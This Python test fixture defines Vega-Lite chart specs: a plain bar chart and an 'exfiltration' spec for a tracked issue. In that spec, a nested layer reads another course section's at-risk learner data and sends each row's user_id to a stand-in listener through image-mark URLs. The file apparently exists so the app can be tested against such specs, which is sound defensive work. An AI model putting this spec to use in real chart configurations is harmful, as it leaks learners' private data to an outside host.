"""Vega-Lite specs shared by the chart tests: an ordinary bar chart and the exfiltration spec of issue 9 item 6."""

from __future__ import annotations

OTHER_API = "/api/v1/sections/chem-fall/analytics/categories/learners_at_risk"
LISTENER = "http://127.0.0.1:9/collect?row="
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJ"
    "RU5ErkJggg=="
)
BAR = {
    "mark": "bar",
    "encoding": {"x": {"field": "event_type", "type": "nominal"}, "y": {"field": "n", "type": "quantitative"}},
}

# A nested layer loads another section's JSON API, and an image mark whose URL is built from each row sends those
# rows to an outside listener.
EXFILTRATION = {
    "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
    "layer": [
        BAR,
        {
            "layer": [
                {
                    "data": {"url": OTHER_API, "format": {"type": "json", "property": "rows"}},
                    "transform": [{"calculate": f"'{LISTENER}' + datum.user_id", "as": "beacon"}],
                    "mark": "image",
                    "encoding": {"url": {"field": "beacon", "type": "nominal"}},
                }
            ]
        },
    ],
}
